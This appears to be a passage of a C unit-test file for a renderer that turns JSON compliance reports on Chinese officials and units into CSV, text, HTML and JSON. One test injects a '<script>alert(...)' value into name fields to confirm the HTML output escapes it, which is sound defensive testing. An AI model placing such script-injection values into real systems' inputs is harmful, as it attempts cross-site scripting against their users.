/* test_render.c -- report renderers: display width, csv/text/html/json of every report kind. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ml_err.h"
#include "ml_render.h"

//  -------------------------------------------------------------------------
//  Helpers

//  Loads tests/unit/data/render_NAME.json.
static json_t *
s_fixture (const char *name)
{
    const char *dir = getenv ("MASSLINE_TEST_DATA");
    char path [512];
    json_error_t error;
    snprintf (path, sizeof path, "%s/data/render_%s.json", dir? dir: "tests/unit", name);
    json_t *report = json_load_file (path, 0, &error);
    cr_assert (report, "%s:%d: %s", path, error.line, error.text);
    return report;
}

//  Renders REPORT in FORMAT into a fresh string; *RC gets the return code.
static char *
s_render_rc (const json_t *report, ml_format_t format, int *rc, char *err, size_t errlen)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *out = open_memstream (&buf, &len);
    cr_assert (out);
    *rc = ml_render (report, format, out, err, errlen);
    fclose (out);
    return buf;
}

//  Renders and asserts success.
static char *
s_render (const json_t *report, ml_format_t format)
{
    char err [256] = "";
    int rc;
    char *text = s_render_rc (report, format, &rc, err, sizeof err);
    cr_assert_eq (rc, 0, "render %s failed: %s", ml_format_name (format), err);
    cr_assert (text && *text);
    return text;
}

static size_t
s_count (const char *haystack, const char *needle)
{
    size_t count = 0;
    for (const char *at = strstr (haystack, needle); at; at = strstr (at + 1, needle))
        count++;
    return count;
}

//  Parses CSV (RFC 4180, CRLF records, after the BOM) into an array of arrays of strings.
static json_t *
s_csv_parse (const char *text)
{
    cr_assert (strncmp (text, "\xEF\xBB\xBF", 3) == 0, "csv does not start with the UTF-8 BOM");
    text += 3;
    json_t *records = json_array (), *record = json_array ();
    char *field = malloc (strlen (text) + 1);
    size_t len = 0;
    while (*text) {
        if (*text == '"' && len == 0) {
            for (text++; ; text++) {
                cr_assert (*text, "csv: unterminated quoted field");
                if (*text == '"' && text [1] == '"')
                    field [len++] = *text++;
                else
                if (*text == '"')
                    break;
                else
                    field [len++] = *text;
            }
            text++;
            cr_assert (*text == ',' || *text == '\r', "csv: junk after a quoted field");
        }
        if (*text == ',' || *text == '\r') {
            field [len] = 0;
            json_array_append_new (record, json_string (field));
            len = 0;
            if (*text == '\r') {
                cr_assert_eq (text [1], '\n', "csv: CR not followed by LF");
                json_array_append_new (records, record);
                record = json_array ();
                text++;
            }
            text++;
            continue;
        }
        cr_assert (*text != '\n', "csv: bare LF outside a quoted field");
        cr_assert (*text != '"', "csv: quote inside an unquoted field");
        field [len++] = *text++;
    }
    cr_assert_eq (json_array_size (record), 0, "csv: last record lacks CRLF");
    json_decref (record);
    free (field);
    return records;
}

//  The CSV header joined with commas, for an exact comparison.
static char *
s_csv_header (const json_t *records)
{
    static char header [4096];
    json_t *name;
    size_t index;
    header [0] = 0;
    json_array_foreach (json_array_get (records, 0), index, name) {
        if (index > 0)
            strcat (header, ",");
        strcat (header, json_string_value (name));
    }
    return header;
}

//  Column of the CSV header named NAME.
static size_t
s_csv_column (const json_t *records, const char *name)
{
    json_t *value;
    size_t index;
    json_array_foreach (json_array_get (records, 0), index, value)
        if (strcmp (json_string_value (value), name) == 0)
            return index;
    cr_assert_fail ("csv: no column %s", name);
    return 0;
}

static const char *
s_csv_field (const json_t *records, size_t row, size_t col)
{
    return json_string_value (json_array_get (json_array_get (records, row), col));
}

typedef struct {
    int start, end;                 //  display columns [start, end)
} s_span_t;

//  Splits a text line into cells separated by two or more spaces; returns the count.
static int
s_cells (const char *line, s_span_t *cells, int max)
{
    int count = 0, col = 0, open = 0;
    while (*line) {
        if (*line == ' ') {
            int spaces = 0;
            while (line [spaces] == ' ')
                spaces++;
            if (open && spaces >= 2)
                open = 0;
            col += spaces;
            line += spaces;
            continue;
        }
        if (!open) {
            cr_assert (count < max);
            cells [count].start = col;
            open = 1;
            count++;
        }
        //  One UTF-8 character and its width.
        char one [8] = { *line++ };
        for (int i = 1; (*line & 0xC0) == 0x80 && i < 7; i++)
            one [i] = *line++;
        col += ml_display_width (one);
        cells [count - 1].end = col;
    }
    return count;
}

static int
s_is_rule (const char *line)
{
    return strstr (line, "---") && strspn (line, "- ") == strlen (line);
}

//  Checks every table of a text report: each cell lies inside the dashed segment of its
//  column and touches its left or right edge. Returns the number of tables seen.
static int
s_check_tables (const char *text)
{
    char *copy = strdup (text);
    char *lines [4096];
    int nlines = 0, tables = 0;
    for (char *line = copy, *next; line && *line; line = next) {
        next = strchr (line, '\n');
        if (next)
            *next++ = 0;
        cr_assert (nlines < 4096);
        lines [nlines++] = line;
    }
    for (int i = 1; i < nlines; i++) {
        if (!s_is_rule (lines [i]))
            continue;
        s_span_t rule [64], cells [64];
        int ncols = s_cells (lines [i], rule, 64);
        tables++;
        for (int row = i - 1; row < nlines && *lines [row]; row++) {
            if (row == i)
                continue;
            int count = s_cells (lines [row], cells, 64);
            cr_assert (count >= 1 && count <= ncols, "line has %d cells, table %d: %s",
                       count, ncols, lines [row]);
            cr_assert (strlen (lines [row]) == 0 || lines [row][strlen (lines [row]) - 1] != ' ',
                       "trailing space: '%s'", lines [row]);
            for (int k = 0; k < count; k++) {
                cr_assert (cells [k].start >= rule [k].start && cells [k].end <= rule [k].end,
                           "column %d of '%s' is at %d..%d, outside %d..%d", k, lines [row],
                           cells [k].start, cells [k].end, rule [k].start, rule [k].end);
                cr_assert (cells [k].start == rule [k].start || cells [k].end == rule [k].end,
                           "column %d of '%s' is aligned neither left nor right", k, lines [row]);
            }
        }
    }
    free (copy);
    return tables;
}

//  The line of TEXT that contains NEEDLE (a static copy).
static const char *
s_line_with (const char *text, const char *needle)
{
    static char line [1024];
    const char *at = strstr (text, needle);
    cr_assert (at, "no line with %s", needle);
    while (at > text && at [-1] != '\n')
        at--;
    size_t len = strcspn (at, "\n");
    cr_assert (len < sizeof line);
    memcpy (line, at, len);
    line [len] = 0;
    return line;
}

//  Common checks of an HTML page.
static void
s_check_html (const char *html)
{
    cr_assert (strncmp (html, "<!DOCTYPE html>", 15) == 0);
    cr_assert (strstr (html, "<html lang=\"zh-CN\">"));
    cr_assert (strstr (html, "<meta charset=\"utf-8\">"));
    cr_assert (strstr (html, "@page { size: A4; margin: 15mm }"));
    cr_assert (strstr (html, "\"Noto Sans CJK SC\", \"Source Han Sans SC\", \"Microsoft YaHei\""));
    cr_assert_eq (s_count (html, "<table"), s_count (html, "</table>"));
    cr_assert_gt (s_count (html, "<table"), 0);
    cr_assert_eq (s_count (html, "<tr"), s_count (html, "</tr>"));
    cr_assert_eq (s_count (html, "<svg"), 1);
    cr_assert_eq (s_count (html, "</svg>"), 1);
    cr_assert_eq (s_count (html, "<html"), 1);
    cr_assert (strstr (html, "</body>\n</html>\n"));
    //  Self-contained: nothing fetched from elsewhere.
    cr_assert_null (strstr (html, "<script"));
    cr_assert_null (strstr (html, "<link"));
    cr_assert_null (strstr (html, "src="));
    cr_assert_null (strstr (html, "url("));
    cr_assert_null (strstr (html, "@import"));
}

//  -------------------------------------------------------------------------
//  Display width and format names

Test (render, display_width_counts_cjk_twice_and_combining_marks_zero)
{
    cr_assert_eq (ml_display_width ("镇江市第一人民医院"), 18);
    cr_assert_eq (ml_display_width ("H001"), 4);
    cr_assert_eq (ml_display_width ("e\xCC\x81"), 1);           //  e + U+0301
    cr_assert_eq (ml_display_width (""), 0);
    cr_assert_eq (ml_display_width (NULL), 0);
    cr_assert_eq (ml_display_width ("张建国 (P001)"), 13);
    cr_assert_eq (ml_display_width ("、，。"), 6);                //  CJK punctuation
    cr_assert_eq (ml_display_width ("ＡＢ１"), 6);                //  full-width forms
    cr_assert_eq (ml_display_width ("\xF0\xA0\x80\x80"), 2);    //  U+20000, extension B
    cr_assert_eq (ml_display_width ("a\tb"), 2);                 //  control: 0
    cr_assert_eq (ml_display_width ("\xFF" "a\xE4\xB8"), 4);    //  invalid bytes: 1 each
}

Test (render, format_names_parse)
{
    ml_format_t format = ML_FORMAT_TEXT;
    cr_assert_eq (ml_format_parse ("json", &format), 0);
    cr_assert_eq (format, ML_FORMAT_JSON);
    cr_assert_eq (ml_format_parse ("csv", &format), 0);
    cr_assert_eq (format, ML_FORMAT_CSV);
    cr_assert_eq (ml_format_parse ("html", &format), 0);
    cr_assert_eq (format, ML_FORMAT_HTML);
    cr_assert_eq (ml_format_parse ("text", &format), 0);
    cr_assert_eq (format, ML_FORMAT_TEXT);
    cr_assert_eq (ml_format_parse ("pdf", &format), 0);
    cr_assert_eq (format, ML_FORMAT_PDF);
    format = ML_FORMAT_TEXT;
    cr_assert_eq (ml_format_parse ("TEXT", &format), ML_EINVAL);
    cr_assert_eq (format, ML_FORMAT_TEXT, "a bad name changed the format");
    cr_assert_str_eq (ml_format_name (ML_FORMAT_HTML), "html");
}

//  -------------------------------------------------------------------------
//  JSON

Test (render, json_is_the_report_pretty_and_unescaped)
{
    const char *kinds [] = { "unit_annual", "rollup", "cadre", "bulletin", "watchlist" };
    for (size_t i = 0; i < sizeof kinds / sizeof kinds [0]; i++) {
        json_t *report = s_fixture (kinds [i]);
        char *text = s_render (report, ML_FORMAT_JSON);
        json_error_t error;
        json_t *back = json_loads (text, 0, &error);
        cr_assert (back, "%s: %s", kinds [i], error.text);
        cr_assert (json_equal (report, back), "%s: json output differs from the report", kinds [i]);
        cr_assert (strstr (text, "镇江市") && !strstr (text, "\\u"), "%s: UTF-8 escaped", kinds [i]);
        cr_assert (strncmp (text, "{\n  \"report\": ", 14) == 0, "%s: not indented by 2", kinds [i]);
        cr_assert_null (strstr (text, "0000000"), "%s: reals printed with noise digits", kinds [i]);
        json_decref (back);
        json_decref (report);
        free (text);
    }
}

//  -------------------------------------------------------------------------
//  CSV

Test (render, csv_unit_annual_one_row_per_person_and_rule)
{
    json_t *report = s_fixture ("unit_annual");
    char *text = s_render (report, ML_FORMAT_CSV);
    json_t *records = s_csv_parse (text);
    cr_assert_str_eq (s_csv_header (records),
        "单位编号,单位名称,年度,人员编号,姓名,角色,制度,规则,内容,性质,状态,要求,上限,实际,未达月份");
    size_t rules = json_array_size (json_object_get (report, "unit_rules")), index;
    json_t *person;
    json_array_foreach (json_object_get (report, "persons"), index, person)
        rules += json_array_size (json_object_get (person, "rules"));
    cr_assert_eq (json_array_size (records), 1 + rules);
    cr_assert_eq (rules, 43);
    //  Every line ends in CRLF: as many CRs as LFs.
    cr_assert_eq (s_count (text, "\r\n"), s_count (text, "\n"));

    //  P002's half-months, Chinese status, the unit rows without a person.
    size_t missed = s_csv_column (records, "未达月份"), status = s_csv_column (records, "状态");
    int found = 0;
    for (size_t row = 1; row < json_array_size (records); row++)
        if (strcmp (s_csv_field (records, row, 3), "P002") == 0
        &&  strcmp (s_csv_field (records, row, 7), "4.1b") == 0) {
            cr_assert_str_eq (s_csv_field (records, row, missed), "2025-02上、2025-07下、2025-08上");
            cr_assert_str_eq (s_csv_field (records, row, status), "未达标");
            found = 1;
        }
    cr_assert (found);
    size_t last = json_array_size (records) - 1;
    cr_assert_str_eq (s_csv_field (records, last, 3), "");
    cr_assert_str_eq (s_csv_field (records, last, 7), "6.2b");
    cr_assert_str_eq (s_csv_field (records, 3, s_csv_column (records, "上限")), "7");    //  1.3c: 5-7
    json_decref (records);
    json_decref (report);
    free (text);
}

Test (render, csv_quotes_commas_quotes_and_newlines)
{
    json_t *report = s_fixture ("unit_annual");
    json_t *person = json_array_get (json_object_get (report, "persons"), 1);
    const char *name = "欧阳\"明华\", 医务科\n二病区";
    json_object_set_new (person, "name", json_string (name));
    person = json_array_get (json_object_get (report, "persons"), 2);
    json_object_set_new (person, "name", json_string ("李\"明\""));
    char *text = s_render (report, ML_FORMAT_CSV);
    cr_assert (strstr (text, ",\"欧阳\"\"明华\"\", 医务科\n二病区\","), "field not quoted per RFC 4180");
    cr_assert (strstr (text, ",\"李\"\"明\"\"\","), "a field with quotes only is not quoted");
    json_t *records = s_csv_parse (text);
    size_t rows = 0;
    for (size_t row = 1; row < json_array_size (records); row++)
        if (strcmp (s_csv_field (records, row, 4), name) == 0)
            rows++;
    cr_assert_eq (rows, 10, "the quoted name does not round-trip on each of its rows");
    json_decref (records);
    json_decref (report);
    free (text);
}

Test (render, csv_rollup_one_row_per_unit_with_system_columns)
{
    json_t *report = s_fixture ("rollup");
    char *text = s_render (report, ML_FORMAT_CSV);
    json_t *records = s_csv_parse (text);
    cr_assert_str_eq (s_csv_header (records),
        "年度,单位编号,单位名称,人数,检查,达标,未达标,提醒,达标率,"
        "调研蹲点-检查,调研蹲点-达标,调研蹲点-未达标,联系点-检查,联系点-达标,联系点-未达标,"
        "挂职-检查,挂职-达标,挂职-未达标,接访-检查,接访-达标,接访-未达标,"
        "谈心-检查,谈心-达标,谈心-未达标,征求意见-检查,征求意见-达标,征求意见-未达标,"
        "承诺践诺-检查,承诺践诺-达标,承诺践诺-未达标,党代表-检查,党代表-达标,党代表-未达标");
    cr_assert_eq (json_array_size (records), 1 + 8);
    for (size_t row = 0; row < json_array_size (records); row++)
        cr_assert_eq (json_array_size (json_array_get (records, row)), 33);
    cr_assert_str_eq (s_csv_field (records, 4, 1), "H004");
    cr_assert_str_eq (s_csv_field (records, 4, 2), "镇江市第四人民医院");
    cr_assert_str_eq (s_csv_field (records, 4, 8), "76.1%");
    cr_assert_str_eq (s_csv_field (records, 8, 2), "局机关");
    cr_assert_str_eq (s_csv_field (records, 8, s_csv_column (records, "挂职-检查")), "3");
    json_decref (records);
    json_decref (report);
    free (text);
}

Test (render, csv_bulletin_watchlist_cadre_tables)
{
    json_t *report = s_fixture ("bulletin");
    char *text = s_render (report, ML_FORMAT_CSV);
    json_t *records = s_csv_parse (text);
    cr_assert (strncmp (s_csv_header (records), "期间,名次,单位编号,单位名称,检查,达标,未达标,提醒,达标率,调研蹲点-检查,", 92) == 0,
               "bulletin header: %s", s_csv_header (records));
    cr_assert_eq (json_array_size (records), 1 + 8);
    cr_assert_str_eq (s_csv_field (records, 1, 0), "2025-Q1");
    cr_assert_str_eq (s_csv_field (records, 1, 1), "1");
    cr_assert_str_eq (s_csv_field (records, 8, 2), "X001");
    json_decref (records);
    json_decref (report);
    free (text);

    report = s_fixture ("watchlist");
    text = s_render (report, ML_FORMAT_CSV);
    records = s_csv_parse (text);
    cr_assert_str_eq (s_csv_header (records), "年度,单位编号,单位名称,人员编号,姓名,规则,内容,性质,实际,要求,上限");
    cr_assert_eq (json_array_size (records), 1 + 10);
    cr_assert_str_eq (s_csv_field (records, 9, 3), "");           //  unit-level row: no person
    cr_assert_str_eq (s_csv_field (records, 9, 5), "1.3g");
    json_decref (records);
    json_decref (report);
    free (text);

    report = s_fixture ("cadre");
    text = s_render (report, ML_FORMAT_CSV);
    records = s_csv_parse (text);
    cr_assert_eq (json_array_size (records), 1 + 14);
    cr_assert_str_eq (s_csv_field (records, 1, 4), "张建国");
    cr_assert_str_eq (s_csv_field (records, 1, 5), "主要领导、市党代表");
    json_decref (records);
    json_decref (report);
    free (text);
}

//  -------------------------------------------------------------------------
//  Text

Test (render, text_unit_annual_columns_line_up)
{
    json_t *report = s_fixture ("unit_annual");
    char *text = s_render (report, ML_FORMAT_TEXT);
    //  systems, four persons, unit rules, rule texts
    cr_assert_eq (s_check_tables (text), 7, "%s", text);
    cr_assert (strstr (text, "规则 Rule  要求 Required  实际 Actual  状态 Status  未达月份 Missed"));
    cr_assert (strstr (text, "欧阳明华 (P002)") && strstr (text, "李明 (P003)"));
    const char *line = s_line_with (text, "2025-02上、2025-07下、2025-08上");
    cr_assert (strstr (line, "4.1b") && strstr (line, "未达标"), "%s", line);
    cr_assert (strstr (s_line_with (text, "  8.2c "), "不适用"));
    cr_assert (strstr (s_line_with (text, "  1.3c "), "5-7"));
    cr_assert (strstr (text, "案件 Cases") && strstr (text, "受理 14"));
    json_decref (report);
    free (text);
}

Test (render, text_rollup_marks_lagging_units)
{
    json_t *report = s_fixture ("rollup");
    char *text = s_render (report, ML_FORMAT_TEXT);
    cr_assert_eq (s_check_tables (text), 1, "%s", text);
    //  Names of 3 and 11 characters in the same table.
    cr_assert (strstr (text, "局机关") && strstr (text, "镇江市疾病预防控制中心"));
    const char *lagging [] = { "H004", "X001" }, *fine [] = { "H001", "H003", "J001" };
    for (size_t i = 0; i < 2; i++) {
        const char *line = s_line_with (text, lagging [i]);
        cr_assert (strcmp (line + strlen (line) - strlen ("▲"), "▲") == 0, "not marked: %s", line);
    }
    for (size_t i = 0; i < 3; i++)
        cr_assert_null (strstr (s_line_with (text, fine [i]), "▲"));
    cr_assert (strstr (text, "▲ 达标率低于 80%"), "no legend for the mark");
    cr_assert (strstr (s_line_with (text, "H001 "), "100/108"));
    cr_assert (strstr (s_line_with (text, "H001 "), "93.5%"));
    json_decref (report);
    free (text);
}

Test (render, text_bulletin_watchlist_cadre_line_up)
{
    json_t *report = s_fixture ("bulletin");
    char *text = s_render (report, ML_FORMAT_TEXT);
    cr_assert_eq (s_check_tables (text), 1, "%s", text);
    cr_assert (strstr (text, "2025-Q1"));
    cr_assert (strstr (s_line_with (text, "镇江市中心血站"), "▲"));
    //  ranked order kept: H003 first, X001 last
    cr_assert_lt (strstr (text, "H003") - text, strstr (text, "X001") - text);
    json_decref (report);
    free (text);

    report = s_fixture ("watchlist");
    text = s_render (report, ML_FORMAT_TEXT);
    cr_assert_eq (s_check_tables (text), 2, "%s", text);
    cr_assert (strstr (s_line_with (text, "1.3g"), "(单位)"));
    cr_assert (strstr (s_line_with (text, "司马文静"), "4.1b"));
    json_decref (report);
    free (text);

    report = s_fixture ("cadre");
    text = s_render (report, ML_FORMAT_TEXT);
    cr_assert_eq (s_check_tables (text), 3, "%s", text);     //  metrics by system, rules, texts
    cr_assert (strstr (text, "姓名 Name: 张建国 (P001)"));
    cr_assert (strstr (text, "达标率 Rate 92.3%"));
    json_decref (report);
    free (text);
}

Test (render, text_cell_with_newline_stays_on_its_line)
{
    json_t *report = s_fixture ("rollup");
    json_t *unit = json_array_get (json_object_get (report, "units"), 0);
    json_object_set_new (unit, "unit_name", json_string ("镇江市第一\n人民医院  (总院)"));
    char *text = s_render (report, ML_FORMAT_TEXT);
    cr_assert_eq (s_check_tables (text), 1, "%s", text);
    cr_assert (strstr (s_line_with (text, "H001"), "镇江市第一 人民医院 (总院)"));
    json_decref (report);
    free (text);
}

//  -------------------------------------------------------------------------
//  HTML

Test (render, html_every_kind_is_self_contained_and_names_every_unit)
{
    json_t *report = s_fixture ("rollup");
    char *html = s_render (report, ML_FORMAT_HTML);
    s_check_html (html);
    size_t index;
    json_t *unit;
    json_array_foreach (json_object_get (report, "units"), index, unit)
        cr_assert (strstr (html, json_string_value (json_object_get (unit, "unit_name"))));
    const char *labels [] = { "调研蹲点", "联系点", "挂职", "接访", "谈心", "征求意见", "承诺践诺", "党代表" };
    for (size_t i = 0; i < 8; i++)
        cr_assert (strstr (html, labels [i]));
    cr_assert_eq (s_count (html, "<tr class=\"lag\">"), 2);
    cr_assert_eq (s_count (html, "<rect"), 8 * 9 + 7, "8 units x 9 cells + 7 legend boxes");
    json_decref (report);
    free (html);

    report = s_fixture ("bulletin");
    html = s_render (report, ML_FORMAT_HTML);
    s_check_html (html);
    json_array_foreach (json_object_get (report, "units"), index, unit)
        cr_assert (strstr (html, json_string_value (json_object_get (unit, "unit_name"))));
    json_decref (report);
    free (html);

    report = s_fixture ("unit_annual");
    html = s_render (report, ML_FORMAT_HTML);
    s_check_html (html);
    cr_assert (strstr (html, "镇江市第一人民医院"));
    json_t *person;
    json_array_foreach (json_object_get (report, "persons"), index, person)
        cr_assert (strstr (html, json_string_value (json_object_get (person, "name"))));
    cr_assert (strstr (html, "<td class=\"unmet\">未达标</td>"));
    json_decref (report);
    free (html);

    report = s_fixture ("watchlist");
    html = s_render (report, ML_FORMAT_HTML);
    s_check_html (html);
    json_array_foreach (json_object_get (report, "units"), index, unit)
        cr_assert (strstr (html, json_string_value (json_object_get (unit, "unit_name"))));
    json_decref (report);
    free (html);

    report = s_fixture ("cadre");
    html = s_render (report, ML_FORMAT_HTML);
    s_check_html (html);
    cr_assert (strstr (html, "张建国"));
    json_decref (report);
    free (html);
}

Test (render, html_escapes_names)
{
    json_t *report = s_fixture ("rollup");
    json_t *unit = json_array_get (json_object_get (report, "units"), 2);
    json_object_set_new (unit, "unit_name", json_string ("<script>alert('x')</script> & \"医院\""));
    char *html = s_render (report, ML_FORMAT_HTML);
    s_check_html (html);        //  which also finds no "<script"
    cr_assert (strstr (html, "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &quot;医院&quot;"));
    json_decref (report);
    free (html);

    report = s_fixture ("unit_annual");
    json_t *person = json_array_get (json_object_get (report, "persons"), 0);
    json_object_set_new (person, "name", json_string ("<script>张</script>"));
    html = s_render (report, ML_FORMAT_HTML);
    s_check_html (html);
    cr_assert (strstr (html, "&lt;script&gt;张&lt;/script&gt;"));
    json_decref (report);
    free (html);
}

//  -------------------------------------------------------------------------
//  Errors and sparse reports

Test (render, bad_reports_fail_with_a_message_and_write_nothing)
{
    struct { const char *json; const char *err; } cases [] = {
        { "{\"year\": 2025}", "report: missing 'report' (the report kind)" },
        { "{\"report\": \"monthly\"}", "report: unknown kind 'monthly'" },
        { "{\"report\": \"rollup\", \"units\": {}}", "rollup report: 'units' is not an array" },
        { "{\"report\": \"watchlist\"}", "watchlist report: 'rows' is not an array" },
        { "{\"report\": \"cadre\", \"person\": []}", "cadre report: 'person' is not an object" },
        { "{\"report\": \"bulletin\", \"units\": [{}, 3]}", "bulletin report: units[1] is not an object" },
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases [0]; i++) {
        json_t *report = json_loads (cases [i].json, 0, NULL);
        cr_assert (report);
        for (ml_format_t format = ML_FORMAT_CSV; format <= ML_FORMAT_HTML; format++) {
            char err [256] = "";
            int rc;
            char *text = s_render_rc (report, format, &rc, err, sizeof err);
            cr_assert_eq (rc, ML_EINVAL, "%s", cases [i].json);
            cr_assert_str_eq (err, cases [i].err);
            cr_assert_str_eq (text, "", "output written on failure");
            free (text);
        }
        json_decref (report);
    }
}

Test (render, unknown_format_fails_and_writes_nothing)
{
    json_t *report = s_fixture ("rollup");
    const int formats [] = { ML_FORMAT_PDF + 1, 99, -1 };
    for (size_t i = 0; i < sizeof formats / sizeof formats [0]; i++) {
        char err [256] = "", want [64];
        int rc;
        char *text = s_render_rc (report, (ml_format_t) formats [i], &rc, err, sizeof err);
        cr_assert_eq (rc, ML_EINVAL, "format %d", formats [i]);
        snprintf (want, sizeof want, "report: unknown format %d", formats [i]);
        cr_assert_str_eq (err, want);
        cr_assert_str_eq (text, "", "output written for format %d", formats [i]);
        free (text);
    }
    cr_assert_str_eq (ml_format_name ((ml_format_t) 99), "?");
    json_decref (report);
}

Test (render, write_failure_is_eio)
{
    json_t *report = s_fixture ("rollup");
    FILE *full = fopen ("/dev/full", "w");
    cr_assert (full);
    char err [256] = "";
    cr_assert_eq (ml_render (report, ML_FORMAT_HTML, full, err, sizeof err), ML_EIO);
    cr_assert (strncmp (err, "report: cannot write the html output: ", 38) == 0, "%s", err);
    fclose (full);
    json_decref (report);
}

Test (render, sparse_reports_render_in_every_format)
{
    const char *sparse [] = {
        "{\"report\": \"rollup\", \"units\": [{\"unit\": \"H9\"}]}",
        "{\"report\": \"bulletin\", \"units\": []}",
        "{\"report\": \"unit-annual\", \"persons\": [{\"person\": \"P1\", \"rules\": [{\"rule\": \"1.3a\"}]}]}",
        "{\"report\": \"cadre\", \"person\": {}}",
        "{\"report\": \"watchlist\", \"rows\": []}",
    };
    for (size_t i = 0; i < sizeof sparse / sizeof sparse [0]; i++) {
        json_t *report = json_loads (sparse [i], 0, NULL);
        cr_assert (report);
        for (ml_format_t format = ML_FORMAT_JSON; format <= ML_FORMAT_HTML; format++) {
            char *text = s_render (report, format);
            if (format == ML_FORMAT_TEXT)
                s_check_tables (text);
            if (format == ML_FORMAT_HTML)
                cr_assert_eq (s_count (text, "<table"), s_count (text, "</table>"));
            if (format == ML_FORMAT_CSV)
                json_decref (s_csv_parse (text));
            free (text);
        }
        json_decref (report);
    }
}

//  -------------------------------------------------------------------------
//  Issue 11: the cadre annex on A4 with Chinese labels; statuses, orgs, rounding

//  Every metric key the collector writes (collector/ml_metrics.c and ml_report.c s_metrics).
static const char *const s_metric_keys [] = {
    "research_plans", "research_trips", "research_days", "stationed_days", "unannounced_trips",
    "research_reports", "work_items", "results_exchanges", "contact_visits", "practical_deeds",
    "reception_days", "reception_announced", "reception_fixed_point", "reception_open",
    "reception_key_appointment", "reception_thematic", "reception_visit_with_case",
    "reception_home_return_visit", "talks", "talks_team_member", "talks_department",
    "talks_contact_point", "talks_party_member", "talks_masses", "talks_member", "talks_remote",
    "opinions", "petitions", "commitments_annual", "commitments_instant", "rep_studio_reception",
    "rep_advice", "rep_service", "rep_exchange", "rep_inspection", "rep_committee_meeting",
    "rep_proposal", "reception_months", "reception_half_months", "contact_points",
    "paired_families", NULL
};

//  Whether KEY shows in TEXT as a word of its own (not inside another key, not in a CSS name).
static int
s_shows_key (const char *text, const char *key)
{
    size_t len = strlen (key);
    for (const char *at = strstr (text, key); at; at = strstr (at + 1, key)) {
        char before = at > text? at [-1]: ' ', after = at [len];
        int word = before == '_' || (before >= 'a' && before <= 'z');
        word |= after == '_' || (after >= 'a' && after <= 'z') || after == '"' || after == '-';
        if (!word)
            return 1;
    }
    return 0;
}

//  The widest row of an HTML page's tables: the most cells (th or td) in one <tr>.
static size_t
s_widest_row (const char *html)
{
    size_t widest = 0;
    for (const char *tr = strstr (html, "<tr"); tr; tr = strstr (tr + 1, "<tr")) {
        const char *end = strstr (tr, "</tr>");
        cr_assert (end);
        size_t cells = 0;
        for (const char *at = tr; at && at < end; at = strstr (at + 1, "<t"))
            if (strncmp (at, "<td", 3) == 0 || strncmp (at, "<th", 3) == 0)
                cells += strncmp (at, "<thead", 6) != 0;
        if (cells > widest)
            widest = cells;
    }
    return widest;
}

Test (render, cadre_annex_names_every_metric_in_chinese_grouped_by_system)
{
    json_t *report = s_fixture ("cadre");
    json_t *metrics = json_object_get (json_object_get (report, "person"), "metrics");
    for (size_t i = 0; s_metric_keys [i]; i++)
        json_object_set_new (metrics, s_metric_keys [i], json_integer ((json_int_t) i + 1));
    cr_assert_geq (json_object_size (metrics), 26);
    for (ml_format_t format = ML_FORMAT_TEXT; format <= ML_FORMAT_HTML; format++) {
        char *text = s_render (report, format);
        for (size_t i = 0; s_metric_keys [i]; i++)
            cr_assert_not (s_shows_key (text, s_metric_keys [i]), "%s shows the raw key %s",
                           ml_format_name (format), s_metric_keys [i]);
        free (text);
    }
    //  Text: one row per system, its metrics side by side; tables line up.
    char *text = s_render (report, ML_FORMAT_TEXT);
    cr_assert_eq (s_check_tables (text), 3, "%s", text);
    const char *line = s_line_with (text, "提前公布接访");
    cr_assert (strncmp (line, "接访", 6) == 0 && strstr (line, "定点接访") && strstr (line, "接访天数"),
               "reception metrics are not on the 接访 row: %s", line);
    cr_assert (strncmp (s_line_with (text, "与班子成员谈心"), "谈心", 6) == 0);
    cr_assert (strncmp (s_line_with (text, "驻室接待"), "党代表", 9) == 0);
    free (text);
    //  HTML: no table row wider than the rule table (six columns); metrics by system.
    char *html = s_render (report, ML_FORMAT_HTML);
    s_check_html (html);
    cr_assert_leq (s_widest_row (html), 6, "a table row of %zu cells", s_widest_row (html));
    cr_assert (strstr (html, "<tr><th>接访</th><td>"), "no 接访 row in the metrics table");
    cr_assert_null (strstr (html, "min-width: 16mm"));
    cr_assert (strstr (html, "<body class=\"annex\">"), "the annex lacks its one-page layout");
    json_decref (report);
    free (html);
}

Test (render, every_status_and_severity_is_translated_in_every_format)
{
    json_t *report = s_fixture ("unit_annual");
    json_t *rules = json_object_get (json_array_get (json_object_get (report, "persons"), 0), "rules");
    json_object_set_new (json_array_get (rules, 0), "severity", json_string ("info"));
    json_object_set_new (json_array_get (rules, 1), "status", json_string ("exempted"));
    json_object_set_new (json_array_get (rules, 2), "status", json_string ("no_data"));
    char *text = s_render (report, ML_FORMAT_CSV);
    json_t *records = s_csv_parse (text);
    size_t severity = s_csv_column (records, "性质"), status = s_csv_column (records, "状态");
    cr_assert_str_eq (s_csv_field (records, 1, severity), "参考");
    cr_assert_str_eq (s_csv_field (records, 2, status), "已豁免");
    cr_assert_str_eq (s_csv_field (records, 3, status), "无数据");
    cr_assert_null (strstr (text, "info"));
    json_decref (records);
    free (text);
    for (ml_format_t format = ML_FORMAT_TEXT; format <= ML_FORMAT_HTML; format++) {
        text = s_render (report, format);
        cr_assert (strstr (text, "已豁免") && strstr (text, "无数据"), "%s", ml_format_name (format));
        cr_assert_not (s_shows_key (text, "exempted") || s_shows_key (text, "no_data"),
                       "%s shows a raw status", ml_format_name (format));
        free (text);
    }
    json_decref (report);

    report = s_fixture ("watchlist");
    json_object_set_new (json_array_get (json_object_get (report, "rows"), 0), "severity",
                         json_string ("info"));
    for (ml_format_t format = ML_FORMAT_CSV; format <= ML_FORMAT_HTML; format++) {
        text = s_render (report, format);
        cr_assert (strstr (text, "参考"), "%s: info untranslated", ml_format_name (format));
        cr_assert_not (s_shows_key (text, "info"), "%s shows 'info'", ml_format_name (format));
        free (text);
    }
    json_decref (report);
}

Test (render, persons_show_their_org_by_name_with_its_code)
{
    json_t *report = s_fixture ("unit_annual");
    char *text = s_render (report, ML_FORMAT_TEXT);
    cr_assert (strstr (s_line_with (text, "欧阳明华 (P002)"), "党组织 Org: 医务党支部 (B01)"), "%s", text);
    free (text);
    text = s_render (report, ML_FORMAT_HTML);
    cr_assert (strstr (text, "医务党支部 (B01)"));
    free (text);
    //  Without a name (an older collector): the code alone.
    json_object_del (json_array_get (json_object_get (report, "persons"), 1), "org_name");
    text = s_render (report, ML_FORMAT_TEXT);
